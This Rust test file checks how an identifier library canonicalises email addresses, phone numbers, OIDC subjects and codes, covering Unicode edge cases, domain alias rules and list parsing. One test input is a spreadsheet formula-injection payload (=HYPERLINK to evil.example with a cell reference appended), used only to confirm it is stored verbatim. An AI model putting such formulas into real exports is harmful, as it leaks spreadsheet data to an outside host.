//! Tests of canonical subjects, by example and by property.

use proptest::prelude::*;

use super::*;

fn rules(subjects_are: DefaultScheme, rows: &[DomainRule]) -> SubjectRules {
    SubjectRules::Canonical1 { subjects_are, domains: DomainTable::new(rows).unwrap() }
}

fn addresses() -> SubjectRules {
    rules(DefaultScheme::Addresses, &[])
}

fn row(domain: &str) -> DomainRule {
    DomainRule { domain: domain.to_owned(), ..DomainRule::default() }
}

fn table() -> Vec<DomainRule> {
    vec![
        DomainRule { plus: Some(PlusHandling::Keep), ..row("plus.example") },
        DomainRule { strip: Some("-_=".to_owned()), ..row("strip.example") },
        DomainRule { alias_of: Some("strip.example".to_owned()), ..row("alias.example") },
        DomainRule { alias_of: Some("mail.wild.example".to_owned()), ..row("*.wild.example") },
        DomainRule {
            plus: Some(PlusHandling::Keep),
            strip: Some(".".to_owned()),
            ..row("*.deep.wild.example")
        },
        DomainRule { strip: Some(".".to_owned()), ..row("bücher.example") },
    ]
}

/// All spellings of a row are one person. Different rows are different persons.
#[test]
fn spellings_of_one_person_share_canonical_form() {
    let persons: &[&[&str]] = &[
        &[
            "mailto:ama@example.org",
            "ama@example.org",
            "Ama@Example.ORG",
            "MAILTO:ama@example.org",
            "MailTo: ama@example.org",
            "  ama@example.org\t",
            "Ama <ama@example.org>",
            "Ama Mensah <AMA@example.org>",
            "\"Mensah, Ama\" <ama@example.org>",
            "Mensah, Ama <ama@example.org>",
            "<ama@example.org>",
            "mailto:Ama <ama@example.org>",
            "Ama <mailto:ama@example.org>",
            "ama+prize@example.org",
            "ama+a+b@example.org",
            "ama@ｅｘａｍｐｌｅ.org",
            "ama@example。org",
            "\u{feff}ama@example.org",
            "ama@example.org\u{200b}",
            "\u{202a}ama@example.org\u{202c}",
        ],
        &["a.ma@example.org", "A.MA+x@example.org"],
        &["ama@mail.example.org"],
        &["a.ma@gmail.com", "ama@gmail.com", "A.M.A+vote@googlemail.com", "ama@GMAIL.com"],
        &["zo\u{eb}@example.org", "zoe\u{308}@example.org", "ZO\u{cb}@example.org", "ZOE\u{308}@EXAMPLE.ORG"],
        &["zoe@example.org"],
        &["jo@straße.example", "jo@xn--strae-oqa.example", "JO@Straße.example"],
        &["jo@strasse.example"],
        &[
            "jo@b\u{fc}cher.example",
            "jo@xn--bcher-kva.example",
            "jo@bu\u{308}cher.example",
            "jo@BÜCHER.example",
        ],
        &["pelé@example.org"],
        &["δοκιμή@παράδειγμα.δοκιμή", "ΔΟΚΙΜΉ@παράδειγμα.δοκιμή"],
        &["tel:+41791234567", "TEL:+41 79 123 45 67", "tel:+41-79-123-45-67", "tel:+41.79.(123)4567"],
        &["tel:+12025550123", "tel:+1 (202) 555-0123", "tel:+1\u{a0}202\u{2011}555\u{2011}0123"],
        &["oidc:https://login.example.org#248289761001", "OIDC:https://login.example.org#248289761001"],
        &["oidc:https://login.example.org#248289761001a"],
        &["oidc:https://login.example.org#A"],
        &["oidc:https://login.example.org#a"],
        &["code:0017", "CODE:0017"],
        &["code:17"],
        &["open:0017"],
        &["pass:AbC_-0123456789012345678"],
        &["pass:abC_-0123456789012345678"],
        &["id:ama@example.org", "ID: ama@example.org "],
        &["id:Ama@example.org"],
        &["id:Zoe\u{308} 4", "id:Zo\u{eb} 4"],
        &["id:می\u{200c}خواهم"],
        &["id:میخواهم"],
    ];
    let mut seen = std::collections::HashMap::new();
    for (number, spellings) in persons.iter().enumerate() {
        for spelling in *spellings {
            let canonical =
                addresses().canonical(spelling).unwrap_or_else(|error| panic!("`{spelling}` {error}"));
            let person = *seen.entry(canonical.clone()).or_insert(number);
            assert_eq!(person, number, "{spelling} is {canonical}");
        }
        let same = seen.values().filter(|person| **person == number).count();
        assert_eq!(same, 1, "{spellings:?} are more than one person");
    }
}

#[test]
fn canonical_forms_never_change() {
    for (given, canonical) in [
        ("Ama <Ama+vote@Example.org>", "mailto:ama@example.org"),
        ("jo@B\u{fc}cher.example", "mailto:jo@xn--bcher-kva.example"),
        ("jo@Straße.example", "mailto:jo@xn--strae-oqa.example"),
        ("ZOE\u{308}@example.org", "mailto:zo\u{eb}@example.org"),
        ("a.m.a@googlemail.com", "mailto:ama@gmail.com"),
        ("tel:+41 (79) 123-45-67", "tel:+41791234567"),
        ("oidc:https://Login.example.org/#Ama", "oidc:https://Login.example.org/#Ama"),
        ("id: Zoe\u{308} ", "id:Zo\u{eb}"),
    ] {
        assert_eq!(addresses().canonical(given).as_deref(), Ok(canonical), "{given}");
    }
}

#[test]
fn table_rows_change_address_reading() {
    let rules = rules(DefaultScheme::Addresses, &table());
    for (given, canonical) in [
        ("ama+a@plus.example", "mailto:ama+a@plus.example"),
        ("ama+a@example.org", "mailto:ama@example.org"),
        ("a_m-a+x@strip.example", "mailto:ama@strip.example"),
        ("a-ma@Alias.example", "mailto:ama@strip.example"),
        ("ama@x.wild.example", "mailto:ama@mail.wild.example"),
        ("ama@x.y.wild.example", "mailto:ama@mail.wild.example"),
        ("ama@mail.wild.example", "mailto:ama@mail.wild.example"),
        ("ama@wild.example", "mailto:ama@wild.example"),
        // The row of the longest suffix that covers the domain applies.
        ("a.ma+x@s.deep.wild.example", "mailto:ama+x@s.deep.wild.example"),
        ("a.ma@deep.wild.example", "mailto:a.ma@mail.wild.example"),
        ("j.o@xn--bcher-kva.example", "mailto:jo@xn--bcher-kva.example"),
        // Combining marks join the preceding character, before and after characters are stripped.
        ("e.\u{301}@gmail.com", "mailto:\u{e9}@gmail.com"),
        ("a=\u{338}b@strip.example", "mailto:a\u{2260}b@strip.example"),
        // The built-in rows still apply.
        ("a.ma@gmail.com", "mailto:ama@gmail.com"),
    ] {
        assert_eq!(rules.canonical(given).as_deref(), Ok(canonical), "{given}");
    }
    let dots_count = self::rules(DefaultScheme::Addresses, &[row("gmail.com")]);
    assert_eq!(dots_count.canonical("a.ma@googlemail.com").as_deref(), Ok("mailto:a.ma@gmail.com"));
}

#[expect(clippy::too_many_lines, reason = "a table of texts and reasons")]
#[test]
fn refuses_other_texts_with_reason() {
    for (given, reason) in [
        ("", "is empty"),
        (" \u{feff}\t", "is empty"),
        ("email", "neither"),
        ("# voters", "neither"),
        ("Total: 2", "neither"),
        ("member 0042", "neither"),
        ("+41791234567", "neither"),
        ("xx @example.org", "white space"),
        ("ama@example.org li@example.org", "white space"),
        ("ama@example.org,li@example.org", "row of a table"),
        ("Name;E-Mail-Adresse;Region", "row of a table"),
        ("\"Ama Mensah\";Ama@Example.org;Accra", "row of a table"),
        ("voter:17", "begins with `voter:`"),
        ("https://example.org/17", "begins with `https:`"),
        ("email:ama@example.org", "has `:`"),
        ("ama@@example.org", "more than one"),
        ("li@example.org <ama@example.org>", "more than one"),
        ("@example.org", "nothing before"),
        ("+tag@example.org", "nothing before"),
        (".ama@example.org", "a dot"),
        ("ama.@example.org", "a dot"),
        ("ama.+x@example.org", "a dot"),
        ("a..ma@gmail.com", "a dot"),
        ("\"a b\"@example.org", "white space"),
        ("\"ama\"@example.org", "has `\"`"),
        ("am%61@example.org", "has `%`"),
        ("ama\u{37e}x@example.org", "has `;`"),
        ("Ama <ama@example.org", "has `<`"),
        ("ama@", "domain name"),
        ("ama@example", "domain name"),
        ("ama@127.0.0.1", "domain name"),
        ("ama@[127.0.0.1]", "domain name"),
        ("ama@example.org.", "domain name"),
        ("ama@example..org", "domain name"),
        ("ama@-example.org", "domain name"),
        ("ama@ex_ample.org", "domain name"),
        ("ama@xn--a.example", "domain name"),
        ("a\u{200b}ma@example.org", "U+200B"),
        ("a\u{202e}ma@example.org", "U+202E"),
        ("ama@exa\u{ad}mple.org", "U+00AD"),
        ("am\u{fffd}@example.org", "U+FFFD"),
        ("a\u{0}ma@example.org", "U+0000"),
        ("a\u{200d}ma@example.org", "U+200D"),
        ("id:a\u{202e}b", "U+202E"),
        ("id:", "is empty"),
        ("tel:0791234567", "telephone"),
        ("tel:+0791234567", "telephone"),
        ("tel:+41 (0)79 123 45 67", "telephone"),
        ("tel:+123456", "telephone"),
        ("tel:+1234567890123456", "telephone"),
        ("tel:+4179123456x", "telephone"),
        ("tel:+41791234567;ext=2", "telephone"),
        ("tel:+٤١٧٩١٢٣٤٥٦٧", "telephone"),
        ("oidc:https://login.example.org", "oidc:<issuer URL>#<sub>"),
        ("oidc:login.example.org#a", "oidc:<issuer URL>#<sub>"),
        ("oidc:https://login.example.org#", "oidc:<issuer URL>#<sub>"),
        ("oidc:https://login.example.org#a b", "oidc:<issuer URL>#<sub>"),
        ("code:", "`code:`"),
        ("code:a b", "`code:`"),
        ("open:é", "`open:`"),
    ] {
        let refused = addresses().canonical(given);
        let message = refused.as_ref().map_err(ToString::to_string);
        assert!(
            matches!(&message, Err(message) if message.contains(reason)),
            "{given:?}: {message:?}, not {reason:?}"
        );
    }
    let label = |length| format!("ama@{}.example.org", "a".repeat(length));
    assert!(addresses().canonical(&label(63)).is_ok());
    assert_eq!(addresses().canonical(&label(64)), Err(SubjectError::Domain));
    let local = |length| format!("{}@example.org", "a".repeat(length));
    assert!(addresses().canonical(&local(64)).is_ok());
    assert!(matches!(addresses().canonical(&local(65)), Err(SubjectError::Local(_))));
    assert_eq!(addresses().canonical(&"é".repeat(1_001)), Err(SubjectError::TooLong(1_000)));
    assert_eq!(addresses().canonical(&format!("id:{}", "é".repeat(328))), Err(SubjectError::TooLong(330)));
    assert!(addresses().canonical(&format!("id:{}", "é".repeat(327))).is_ok());
}

#[test]
fn ids_stay_as_given_and_schemes_still_apply() {
    let rules = rules(DefaultScheme::Ids, &[]);
    for (given, canonical) in [
        ("member 0042", "id:member 0042"),
        (" Ama@Example.org ", "id:Ama@Example.org"),
        ("id:member 0042", "id:member 0042"),
        ("Total: 2", "id:Total: 2"),
        ("voter:17", "id:voter:17"),
        (
            "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
            "id:=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
        ),
        ("MAILTO:Ama+x@Example.org", "mailto:ama@example.org"),
        ("tel:+41 79 123 45 67", "tel:+41791234567"),
    ] {
        assert_eq!(rules.canonical(given).as_deref(), Ok(canonical), "{given}");
    }
    assert!(rules.canonical("tel:42").is_err());
}

#[test]
fn raw_subject_stays_unchanged() {
    for text in ["mailto:Ama@Example.org", "Li Wei", " x ", "a\u{200b}", "\u{feff}mailto:a@b"] {
        assert_eq!(SubjectRules::Raw.canonical(text).as_deref(), Ok(text));
    }
    assert_eq!(SubjectRules::Raw.canonical(" "), Err(SubjectError::Empty));
    assert_eq!(SubjectRules::Raw.canonical("a\nb"), Err(SubjectError::Invisible('\n')));
    assert!(SubjectRules::Raw.canonical(&"é".repeat(330)).is_ok());
    assert_eq!(SubjectRules::Raw.canonical(&"é".repeat(331)), Err(SubjectError::TooLong(330)));
}

#[test]
fn domain_table_error_names_row_and_key() {
    let alias = |domain: &str, of: &str| DomainRule { alias_of: Some(of.to_owned()), ..row(domain) };
    for (rows, at, key, message) in [
        (vec![row("example.org"), row("example")], 1, "domain", "`example` is not a domain name"),
        (vec![row("a.*.example.org")], 0, "domain", "not a domain name"),
        (vec![row("bücher.example"), row("xn--bcher-kva.example")], 1, "domain", "has a row before"),
        (vec![alias("a.example", "*.b.example")], 0, "alias_of", "not a domain name"),
        (
            vec![alias("a.example", "b.example"), alias("b.example", "c.example")],
            0,
            "alias_of",
            "name `c.example` here",
        ),
        (
            vec![alias("a.example", "x.b.example"), alias("*.b.example", "b.example")],
            0,
            "alias_of",
            "alias of `b.example`",
        ),
        (vec![row("a.example"), alias("gmail.com", "b.example")], 1, "alias_of", "`gmail.com` is an alias"),
        (
            vec![DomainRule { plus: Some(PlusHandling::Keep), ..alias("a.example", "b.example") }],
            0,
            "alias_of",
            "no `plus`",
        ),
        (
            vec![DomainRule { strip: Some("a".to_owned()), ..row("a.example") }],
            0,
            "strip",
            "other characters",
        ),
    ] {
        let error = DomainTable::new(&rows).unwrap_err();
        assert_eq!((error.row, error.key), (at, key), "{error}");
        assert!(error.to_string().contains(message), "{error}");
    }
}

#[test]
fn stored_rules_stay_readable() {
    let stored = r#"{"form":"canonical-1","subjects_are":"addresses","domains":[{"domain":"gmail.com","strip":"."},{"domain":"googlemail.com","alias_of":"gmail.com"}]}"#;
    assert_eq!(serde_json::to_string(&addresses()).unwrap(), stored);
    assert_eq!(serde_json::from_str::<SubjectRules>(stored).unwrap(), addresses());
    assert_eq!(serde_json::to_string(&SubjectRules::Raw).unwrap(), r#"{"form":"raw"}"#);
    assert_eq!(serde_json::from_str::<SubjectRules>(r#"{"form":"raw"}"#).unwrap(), SubjectRules::Raw);
    for bad in [r#"{"form":"canonical-2"}"#, r#"{}"#] {
        assert!(serde_json::from_str::<SubjectRules>(bad).is_err(), "{bad}");
    }
    let full = rules(DefaultScheme::Ids, &table());
    let json = serde_json::to_string(&full).unwrap();
    assert_eq!(serde_json::from_str::<SubjectRules>(&json).unwrap(), full);
}

#[test]
fn keeps_subject_rules_of_first_list() {
    let table = DomainTable::default();
    let of = |kept: Option<&SubjectRules>, asked| SubjectRules::resolve(kept.cloned(), asked, &table);
    let (mail, ids) = (addresses(), rules(DefaultScheme::Ids, &[]));
    assert_eq!(of(None, None), Ok(mail.clone()));
    assert_eq!(of(None, Some(DefaultScheme::Ids)), Ok(ids.clone()));
    assert_eq!(of(Some(&ids), None), Ok(ids.clone()));
    assert!(of(Some(&ids), Some(DefaultScheme::Addresses)).is_err());
    assert!(of(Some(&mail), Some(DefaultScheme::Ids)).is_err());
    let raw = SubjectRules::Raw;
    assert_eq!(of(Some(&raw), Some(DefaultScheme::Addresses)), Ok(raw.clone()));
    assert!(of(Some(&raw), Some(DefaultScheme::Ids)).is_err());
    // The current table is not used.
    let other = DomainTable::new(&[row("gmail.com")]).unwrap();
    assert_eq!(SubjectRules::resolve(Some(mail.clone()), None, &other), Ok(mail));
}

/// Texts that are almost subjects, made of these pieces.
fn almost_subject() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("@".to_owned()),
        Just("example.org".to_owned()),
        Just("gmail.com".to_owned()),
        Just("strip.example".to_owned()),
        Just("x.deep.wild.example".to_owned()),
        "[.+_<>\u{301}\u{338}İΣK\u{37e}\u{1fef}\u{345}-]",
        "[a-zA-Z]{1,3}",
        "(mailto|TEL|id|oidc|code):",
        any::<char>().prop_map(String::from),
        any::<String>(),
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn canonical_form_is_idempotent(text in almost_subject(), ids: bool) {
        let subjects_are = if ids { DefaultScheme::Ids } else { DefaultScheme::Addresses };
        let rules = rules(subjects_are, &table());
        if let Ok(canonical) = rules.canonical(&text) {
            prop_assert_eq!(rules.canonical(&canonical), Ok(canonical.clone()));
            // The canonical form has a scheme, so the default scheme does not matter.
            prop_assert_eq!(self::rules(DefaultScheme::Addresses, &table()).canonical(&canonical), Ok(canonical));
        }
    }

    #[test]
    fn spellings_of_one_address_are_equal(
        local in "[a-zàéö]{1,8}([.][a-z]{1,5})?", label in "[a-zü]{1,9}", tag in "[a-z+-]{0,5}", name in "[A-Za-z ,.]{0,9}"
    ) {
        let rules = addresses();
        let plain = rules.canonical(&format!("{local}@{label}.example"));
        prop_assert!(plain.is_ok());
        let decomposed: String = local.nfd().collect();
        for written in [
            format!("mailto:{}@{}.EXAMPLE", local.to_uppercase(), label.to_uppercase()),
            format!("\u{feff}{name}<{decomposed}@{label}.example> "),
            format!("{local}+{tag}@{label}.example"),
        ] {
            prop_assert_eq!(rules.canonical(&written), plain.clone(), "{}", written);
        }
    }
}

mod lists {
    use super::*;

    fn read(content: &[u8]) -> Vec<(usize, String)> {
        addresses().lines(content).unwrap()
    }

    fn message(content: &[u8]) -> (usize, String) {
        addresses().lines(content).unwrap_err()
    }

    #[test]
    fn reads_all_line_ends() {
        let expected = vec![(1, "a@example.org".to_owned()), (3, "b@example.org".to_owned())];
        for end in ["\n", "\r\n", "\r"] {
            for mark in ["", "\u{feff}"] {
                let text = format!("{mark}a@example.org{end}  {end}\"b@example.org\"{end}");
                assert_eq!(read(text.as_bytes()), expected, "{text:?}");
            }
        }
        assert_eq!(
            read(b"\"a \"\"b\"\"\"\n\"\"\n\"x\" <y@z>"),
            [(1, "a \"b\"".to_owned()), (3, "\"x\" <y@z>".to_owned())]
        );
        assert_eq!(read(b""), []);
    }

    #[test]
    fn reads_utf_16_and_names_other_encodings() {
        let utf16: Vec<u8> = "a@example.org\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let big: Vec<u8> = "a@example.org\n".encode_utf16().flat_map(u16::to_be_bytes).collect();
        for content in [[&[0xff, 0xfe][..], &utf16].concat(), [&[0xfe, 0xff][..], &big].concat(), utf16, big]
        {
            assert_eq!(read(&content), [(1, "a@example.org".to_owned())]);
        }
        for end in ["\n", "\r\n", "\r"] {
            let (line, problem) =
                message(&[format!("a@example.org{end}{end}zo").as_bytes(), b"\xeb@example.org"].concat());
            assert!(line == 3 && problem.contains("Windows-1252"), "{end:?} {line}: {problem}");
        }
    }

    #[test]
    fn rejects_whole_list_and_merges_duplicates() {
        let rules = addresses();
        let persons =
            rules.persons(["b@x.org", "Ama <A@x.org>", "B@X.org", "mailto:a+1@x.org", "c@x.org"]).unwrap();
        let persons: Vec<_> =
            persons.iter().map(|person| (person.canonical.as_str(), person.positions.as_slice())).collect();
        assert_eq!(
            persons,
            [("mailto:b@x.org", &[0, 2][..]), ("mailto:a@x.org", &[1, 3]), ("mailto:c@x.org", &[4])]
        );

        let refused = rules.persons(["b@x.org", "email", "c@x.org", "a\u{200b}@x.org"]).unwrap_err();
        let message: Vec<_> = refused.first.iter().map(|one| (one.position, one.to_string())).collect();
        assert_eq!(refused.count, 2);
        assert!(message[0].0 == 1 && message[0].1.starts_with("`email` is neither"), "{message:?}");
        assert!(
            message[1].0 == 3
                && message[1].1.starts_with("`a\\u{200b}@x.org` has the invisible character U+200B"),
            "{message:?}"
        );
        let refused = rules.persons(vec!["x"; 250]).unwrap_err();
        assert_eq!((refused.count, refused.first.len()), (250, list::MAX_LISTED));
    }

    #[test]
    fn reads_raw_file_unchanged() {
        let read = |content: &[u8]| SubjectRules::Raw.lines(content);
        let lines = read("\u{feff}mailto:a@b\r\n\n \"x\" \n".as_bytes()).unwrap();
        assert_eq!(lines, [(1, "\u{feff}mailto:a@b".to_owned()), (3, "\"x\"".to_owned())]);
        assert_eq!(read(b"a\n\nb;c\n").unwrap_err().0, 3);
        assert_eq!(read(b"a\n\xeb").unwrap_err().0, 2);
    }
}
